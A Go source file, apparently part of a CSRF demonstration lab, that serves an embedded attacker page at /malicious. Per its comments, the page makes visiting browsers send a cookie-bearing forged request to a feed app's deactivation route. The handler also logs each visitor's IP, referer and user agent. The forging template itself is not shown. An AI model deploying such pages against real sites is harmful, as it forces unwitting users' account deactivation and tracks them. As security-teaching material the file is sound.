// Package exploit serves the attacker page of the malicious app. The page
// makes a visiting browser fire a request at the feed app's deactivation
// route, carrying whatever cookies the browser holds for it.
package exploit

import (
	"embed"
	"html/template"
	"net/http"

	"feed_csrf/internal/logger"

	"github.com/gin-gonic/gin"
)

//go:embed templates/malicious.html
var templateFS embed.FS

const routeMalicious = "/malicious"

type Handler struct {
	targetURL string
	log       *logger.Logger
}

// NewHandler builds the attacker page handler forging requests to targetURL.
func NewHandler(targetURL string, log *logger.Logger) *Handler {
	return &Handler{targetURL: targetURL, log: log}
}

func (h *Handler) InitRoutes() *gin.Engine {
	router := gin.New()
	router.Use(gin.Recovery())
	router.SetHTMLTemplate(template.Must(template.ParseFS(templateFS, "templates/malicious.html")))

	router.GET(routeMalicious, h.malicious)
	router.GET("/health", func(c *gin.Context) {
		c.JSON(http.StatusOK, gin.H{"status": "ok"})
	})
	return router
}

func (h *Handler) malicious(c *gin.Context) {
	if h.log != nil {
		h.log.Infow("exploit_served",
			"target", h.targetURL,
			"referer", c.GetHeader("Referer"),
			"user_agent", c.GetHeader("User-Agent"),
			"remote", c.ClientIP(),
		)
	}
	c.HTML(http.StatusOK, "malicious.html", gin.H{"TargetURL": h.targetURL})
}
